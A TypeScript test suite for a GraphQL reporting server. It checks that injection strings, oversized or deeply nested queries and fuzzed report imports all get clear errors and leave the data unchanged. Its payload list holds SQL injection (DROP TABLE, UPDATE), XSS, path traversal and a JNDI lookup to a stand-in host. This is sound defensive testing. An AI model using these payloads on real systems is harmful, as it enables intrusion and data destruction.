/**
 * Hostile input: oversized, deeply nested, alias-bombed and malformed requests; injection
 * attempts in every string argument of every query and mutation; malformed report texts through
 * importReport. Every one must get a clear error (never a 500 or a masked internal error), the
 * process must stay up, and whatever a request did not legitimately write must stay as it was.
 */
import fc from 'fast-check';
import {
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';
import fs from 'node:fs';
import path from 'node:path';
import { getSchema } from '../../src/server/schema';
import { describeEachDatabase } from '../support/databases';
import { startTestApp, type GraphQLResponse, type TestApp } from '../support/app';
import { databaseSnapshot } from '../support/db-snapshot';
import { UPSERT_REPORT, consistentReport2021, createOffice } from '../support/fixtures';

const INJECTIONS = [
  "' OR '1'='1",
  "demo-h'; DROP TABLE offices; --",
  '" OR ""="',
  "%' OR 1=1 ESCAPE '!' --",
  "1; SELECT SLEEP(5) --",
  "\\'; UPDATE annual_reports SET title = 'x'; --",
  "_%!\\",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://example.invalid/a}',
  '\u0000\u0001\u202e',
  'x'.repeat(5000),
];

const CLEAR_CODES = new Set(['BAD_USER_INPUT', 'NOT_FOUND', 'CONFLICT', 'UNAUTHENTICATED', 'FORBIDDEN', 'QUERY_TOO_COMPLEX', 'GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'BAD_REQUEST', 'PAYLOAD_TOO_LARGE']);
const LEAKS = /\b(SELECT|INSERT|UPDATE)\b.*\b(FROM|INTO|SET)\b|SQLITE_|\bER_[A-Z_]+|QueryFailedError|node_modules|\.ts:\d+|\bat \w+ \(/;

/** A value of the argument's type, with `payload` in every string it contains. */
function valueOf(type: GraphQLInputType, payload: string): unknown {
  const inner = getNullableType(type) as GraphQLInputType;
  if (isListType(inner)) return [valueOf(inner.ofType, payload)];
  if (isEnumType(inner)) return inner.getValues()[0]!.name;
  if (isInputObjectType(inner)) {
    const out: Record<string, unknown> = {};
    for (const field of Object.values(inner.getFields())) {
      const named = getNamedType(field.type);
      if (isNonNullType(field.type) || named.name === 'String') out[field.name] = valueOf(field.type, payload);
    }
    return out;
  }
  if (isScalarType(inner)) {
    if (inner.name === 'Int') return 2022;
    if (inner.name === 'Float') return 1;
    if (inner.name === 'Boolean') return false;
    return payload;
  }
  return null;
}

/** Every root field, called with `payload` in each string argument, selecting only __typename. */
function hostileCalls(schema: GraphQLSchema, payload: string): { name: string; query: string; variables: Record<string, unknown> }[] {
  const calls: { name: string; query: string; variables: Record<string, unknown> }[] = [];
  for (const [kind, type] of [['query', schema.getQueryType()], ['mutation', schema.getMutationType()]] as const) {
    for (const field of Object.values(type!.getFields()) as GraphQLField<unknown, unknown>[]) {
      const hasString = field.args.some((a) => JSON.stringify(valueOf(a.type, '\u0001')).includes('\\u0001'));
      if (!hasString) continue;
      const variables: Record<string, unknown> = {};
      const declared: string[] = [];
      const passed: string[] = [];
      for (const arg of field.args) {
        const value = valueOf(arg.type, payload);
        variables[arg.name] = value;
        declared.push(`$${arg.name}: ${String(arg.type)}`);
        passed.push(`${arg.name}: $${arg.name}`);
      }
      const leaf = isScalarType(getNamedType(field.type)) || isEnumType(getNamedType(field.type));
      const query = `${kind}(${declared.join(', ')}) { ${field.name}(${passed.join(', ')})${leaf ? '' : ' { __typename }'} }`;
      calls.push({ name: `${kind} ${field.name}`, query, variables });
    }
  }
  return calls;
}

/** `payload` is what the request sent: echoing it back in a message ("unknown key …") is no leak. */
function expectClear(res: GraphQLResponse, what: string, payload = '\u0000never'): void {
  expect([what, res.status < 500]).toEqual([what, true]);
  for (const error of res.errors ?? []) {
    expect([what, error.extensions?.code]).toEqual([what, expect.any(String)]);
    expect([what, CLEAR_CODES.has(String(error.extensions?.code)) ? 'clear' : `${error.extensions?.code}: ${error.message}`]).toEqual([what, 'clear']);
    expect([what, LEAKS.test(error.message.split(payload).join(''))]).toEqual([what, false]);
  }
}

describeEachDatabase('hostile input', (db) => {
  let app: TestApp;
  let schema: GraphQLSchema;

  beforeAll(async () => {
    schema = await getSchema();
    app = await startTestApp(db());
    await createOffice(app, 'demo-h', '示例对抗区', null, 'GOVERNMENT');
    await createOffice(app, 'demo-h1', '示例对抗街道', 'demo-h');
    expect((await app.gql(UPSERT_REPORT, { input: consistentReport2021('demo-h1', 2022, 4) })).errors).toBeUndefined();
  });
  afterAll(() => app.close());

  const alive = async () => expect((await fetch(`${app.url}/healthz`)).status).toBe(200);

  it('answers injection attempts in every string argument of every query with clear errors, changing nothing', async () => {
    const before = await databaseSnapshot(db().dataSource);
    let calls = 0;
    for (const payload of INJECTIONS) {
      for (const call of hostileCalls(schema, payload).filter((c) => c.name.startsWith('query'))) {
        expectClear(await app.gql(call.query, call.variables), `${call.name} ${payload.slice(0, 30)}`, payload);
        calls += 1;
      }
    }
    expect(calls).toBeGreaterThanOrEqual(INJECTIONS.length * 8);
    await alive();
    expect(await databaseSnapshot(db().dataSource)).toEqual(before);
  });

  it('answers injection attempts in every mutation: refused cleanly, or stored literally without touching other rows', async () => {
    const reportBefore = await app.gql<any>(`{ report(officeCode: "demo-h1", year: 2022) { title metrics { key value } } }`);
    for (const payload of INJECTIONS) {
      for (const call of hostileCalls(schema, payload).filter((c) => c.name.startsWith('mutation'))) {
        const anonymous = await app.gql(call.query, call.variables, { authorization: '' });
        // A payload where a MetricKey goes is refused by the scalar while GraphQL reads the
        // variables, before any resolver (and so before the credentials) runs: that error names the
        // key and nothing else; every other call is refused for want of credentials.
        const refusal = anonymous.errors![0]!.extensions!;
        if (refusal.code === 'BAD_USER_INPUT') expect([call.name, refusal.metric]).toEqual([call.name, payload]);
        else expect([call.name, refusal.code]).toEqual([call.name, 'UNAUTHENTICATED']);
        expectClear(await app.gql(call.query, call.variables), `${call.name} ${payload.slice(0, 30)}`, payload);
      }
    }
    await alive();
    const reportAfter = await app.gql<any>(`{ report(officeCode: "demo-h1", year: 2022) { title metrics { key value } } }`);
    expect(reportAfter.data).toEqual(reportBefore.data);
    const tables = await db().dataSource.query(`SELECT COUNT(*) AS n FROM offices`);
    expect(Number(tables[0].n)).toBeGreaterThanOrEqual(2);
    // A name that was accepted is stored as the literal text it was.
    const named = await app.gql<any>(`{ offices(search: "DROP TABLE", first: 5) { edges { node { name } } } }`);
    for (const edge of named.data.offices.edges) expect(INJECTIONS).toContain(edge.node.name);
  });

  it('refuses oversized, deeply nested, alias-bombed and malformed requests with clear errors', async () => {
    const before = await databaseSnapshot(db().dataSource);
    const raw = async (body: string, contentType = 'application/json') => {
      const res = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': contentType, authorization: `Bearer ${app.adminToken}` }, body });
      const text = await res.text();
      return { status: res.status, text, json: JSON.parse(text) as GraphQLResponse };
    };
    const cases: [string, string, number, string][] = [
      ['2 MB body', JSON.stringify({ query: `{ years { year } }`, variables: { x: 'x'.repeat(2_000_000) } }), 413, 'PAYLOAD_TOO_LARGE'],
      ['500-deep nesting', JSON.stringify({ query: `{ ${'office(code: "demo-h") { '.repeat(500)}code${' }'.repeat(500)} }` }), 400, 'QUERY_TOO_COMPLEX'],
      ['5000 aliases', JSON.stringify({ query: `{ ${Array.from({ length: 5000 }, (_, i) => `a${i}: __typename`).join(' ')} }` }), 400, 'QUERY_TOO_COMPLEX'],
      ['60 000 tokens', JSON.stringify({ query: `{ ${'__typename '.repeat(60_000)}}` }), 400, 'QUERY_TOO_COMPLEX'],
      ['50 operations', JSON.stringify({ query: Array.from({ length: 50 }, (_, i) => `query Q${i} { years { year } }`).join(' ') }), 400, 'QUERY_TOO_COMPLEX'],
      ['fragment cycle', JSON.stringify({ query: `{ office(code: "demo-h") { ...A } } fragment A on Office { parent { ...A } }` }), 400, 'QUERY_TOO_COMPLEX'],
      ['syntax error', JSON.stringify({ query: `{ offices(first: ) { ` }), 400, 'GRAPHQL_PARSE_FAILED'],
      ['unknown field', JSON.stringify({ query: `{ offices { nope } }` }), 400, 'GRAPHQL_VALIDATION_FAILED'],
      ['wrong variable type', JSON.stringify({ query: `query($y: Int!) { report(officeCode: "demo-h1", year: $y) { title } }`, variables: { y: 'twenty' } }), 400, 'BAD_USER_INPUT'],
      ['huge Int', JSON.stringify({ query: `{ report(officeCode: "demo-h1", year: 99999999999999999999) { title } }` }), 400, 'GRAPHQL_VALIDATION_FAILED'],
      ['query is a number', JSON.stringify({ query: 42 }), 400, 'BAD_REQUEST'],
      ['no query', JSON.stringify({ variables: {} }), 400, 'BAD_REQUEST'],
      ['variables not an object', JSON.stringify({ query: `{ years { year } }`, variables: 'x' }), 400, 'BAD_REQUEST'],
      ['batched array', JSON.stringify([{ query: `{ years { year } }` }, { query: `{ years { year } }` }]), 400, 'BAD_REQUEST'],
      ['unknown operation name', JSON.stringify({ query: `query A { years { year } }`, operationName: 'B' }), 400, 'OPERATION_RESOLUTION_FAILURE'],
      ['broken JSON', '{"query": "{ years', 400, 'BAD_REQUEST'],
      ['deeply nested JSON variables', JSON.stringify({ query: `query($x: String!) { office(code: $x) { code } }`, variables: { x: JSON.parse('['.repeat(2000) + ']'.repeat(2000)) } }), 400, 'BAD_USER_INPUT'],
    ];
    for (const [name, body, status, code] of cases) {
      const res = await raw(body);
      expect([name, res.status]).toEqual([name, status]);
      const error = res.json.errors?.[0];
      expect([name, error?.extensions?.code]).toEqual([name, code]);
      expect([name, LEAKS.test(res.text)]).toEqual([name, false]);
    }
    await alive();
    expect(await databaseSnapshot(db().dataSource)).toEqual(before);
  });

  it('answers malformed report texts through importReport with a FAILED outcome or an import, never an error', async () => {
    const valid = fs.readFileSync(path.resolve(__dirname, '../parser/fixtures/2022_demo-pipe-full.txt'), 'utf8');
    const lines = valid.split('\n');
    const IMPORT = `mutation($text: String!, $officeCode: String) { importReport(text: $text, officeCode: $officeCode) { status problem { code message } } }`;
    const texts = fc.sample(
      fc.oneof(
        fc.string({ maxLength: 400 }),
        fc.string({ unit: 'grapheme', maxLength: 400 }),
        fc.integer({ min: 1, max: lines.length }).map((n) => lines.slice(0, n).join('\n')),
        fc.shuffledSubarray(lines).map((l) => l.join('\n')),
        fc.tuple(fc.integer({ min: 0, max: valid.length }), fc.string({ maxLength: 50 })).map(([at, junk]) => valid.slice(0, at) + junk + valid.slice(at)),
        fc.constantFrom(valid.replace(/\d/g, '9'.repeat(30)), valid.replace(/\|/g, ''), valid.replace(/\n/g, ''), `<table>${'<tr><td>'.repeat(2000)}`, '\u0000'.repeat(1000)),
      ),
      { numRuns: 40, seed: 7 },
    );
    let failed = 0;
    for (const text of texts) {
      const before = await databaseSnapshot(db().dataSource);
      const res = await app.gql<any>(IMPORT, { text, officeCode: 'demo-h1' });
      expectClear(res, `import of ${JSON.stringify(text.slice(0, 40))}`, text);
      expect(res.errors).toBeUndefined();
      const outcome = res.data.importReport;
      expect(['IMPORTED', 'REVISED', 'UNCHANGED', 'FAILED', 'REFUSED']).toContain(outcome.status);
      if (outcome.status === 'FAILED' || outcome.status === 'REFUSED') {
        failed += 1;
        expect(outcome.problem.message.length).toBeGreaterThan(0);
        expect(await databaseSnapshot(db().dataSource)).toEqual(before);
      }
    }
    expect(failed).toBeGreaterThan(10);
    await alive();
  });
});
